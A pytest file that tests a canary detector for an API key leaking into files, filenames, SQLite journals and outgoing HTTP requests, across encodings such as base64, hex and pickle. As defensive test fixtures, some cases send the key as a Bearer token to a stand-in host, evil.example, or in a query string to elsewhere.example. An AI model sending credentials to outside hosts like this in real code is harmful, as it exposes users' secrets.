"""The check on the key, checked: it finds what is planted, and a run in which it finds something fails."""

from __future__ import annotations

import base64
import json
import os
import pickle
import sqlite3
import subprocess
import sys
import urllib.parse
from contextlib import closing
from pathlib import Path

import httpx
import pytest
from canary import KEY, Canary

from seedance_widgets.errors import DownloadError
from seedance_widgets.modelark.client import Client

OTHER = "planted+0123456789abcdef0123456/&=%x"
SUPPORT = Path(__file__).parents[1] / "support"


@pytest.mark.parametrize(
    "written",
    [
        OTHER.encode(),
        b"x" * ((1 << 24) - 9) + OTHER.encode(),  # across two pieces
        json.dumps({"outputs": [{"text": f"Bearer {OTHER}"}]}).encode(),
        urllib.parse.urlencode({"key": OTHER}).encode(),
        f"https://x.example/{urllib.parse.quote(OTHER, safe='')}".encode(),
        base64.b64encode(f"Bearer {OTHER}".encode()),
        base64.b64encode(f"me:{OTHER} and more".encode()),
        base64.urlsafe_b64encode(f"n:{OTHER}".encode()),
        OTHER.encode("utf-16"),
        OTHER.encode().hex().encode(),
        pickle.dumps({"headers": {"Authorization": f"Bearer {OTHER}"}}),
    ],
)
def test_a_planted_key_is_found(tmp_path, written):
    (tmp_path / "media").mkdir()
    (tmp_path / "media" / "file").write_bytes(written)
    (tmp_path / "clean").write_bytes(written.replace(b"0", b"1").replace(b"M", b"N")[:-9])
    assert Canary(OTHER).files(tmp_path) == [tmp_path / "media" / "file"]
    assert Canary(KEY).files(tmp_path) == []


def test_a_key_in_a_name_or_a_journal_of_sqlite_is_found(tmp_path):
    (tmp_path / OTHER.replace("/", "_")).touch()
    safe = OTHER.replace("/", "_")
    assert [path.name for path in Canary(safe).files(tmp_path)] == [safe]
    with closing(sqlite3.connect(tmp_path / "log.sqlite")) as log:
        log.execute("PRAGMA journal_mode = WAL")
        log.execute("CREATE TABLE tasks (note TEXT)")
        log.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        log.execute("INSERT INTO tasks VALUES (?)", (OTHER,))
        log.commit()
        assert [path.name for path in Canary(OTHER).files(tmp_path)] == ["log.sqlite-wal"]


@pytest.mark.parametrize(
    ("sent", "where"),
    [
        ({"url": "https://evil.example/", "headers": {"Authorization": f"Bearer {OTHER}"}}, "to a host"),
        ({"url": "http://simulator/api/v3", "headers": {"X-Key": OTHER}}, "x-key"),
        ({"url": "http://simulator/", "params": {"key": OTHER}}, "the address"),
        ({"url": "http://simulator/", "json": {"safety_identifier": OTHER}}, "the body"),
        ({"url": "http://simulator/", "headers": {"Cookie": base64.b64encode(OTHER.encode())}}, "cookie"),
    ],
)
def test_a_request_that_should_not_have_the_key_is_seen(sent, where):
    watcher = Canary(OTHER)
    watcher.sees(httpx.Request("POST", **sent))
    (told,) = watcher.strayed
    assert where in told
    assert OTHER not in told
    assert watcher.carried == 0


async def test_the_runs_canary_sees_what_a_client_sends(canary, tmp_path):
    carried = canary.carried
    transport = httpx.MockTransport(lambda _: httpx.Response(200, json={"id": "cgt-1"}))
    async with Client(KEY, transport=transport) as client:
        await client.get("cgt-1")
        with pytest.raises(DownloadError):
            await client.download("https://tos.example/a.mp4", tmp_path / "a.mp4")
    assert canary.carried == carried + 1


def test_a_run_that_leaves_a_key_fails(tmp_path):
    (tmp_path / "conftest.py").write_text("from canary import canary\n")
    (tmp_path / "test_it.py").write_text(
        "import canary, httpx\n"
        "answering = httpx.MockTransport(lambda _: httpx.Response(200))\n"
        "def test_leak(tmp_path):\n"
        "    (tmp_path / 'log.txt').write_text(canary.KEY)\n"
        "    httpx.Client(transport=answering).get('https://elsewhere.example', params={'key': canary.KEY})\n"
    )
    # the plugins of the machine are not what this is about, and take seconds to load
    environment = {**os.environ, "PYTHONPATH": str(SUPPORT), "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "--rootdir=.", "test_it.py"],
        cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout + done.stderr
    assert "1 passed, 1 error" in done.stdout
    assert "log.txt has the key" in done.stdout
    assert "elsewhere.example had the key in the address during test_it.py::test_leak" in done.stdout
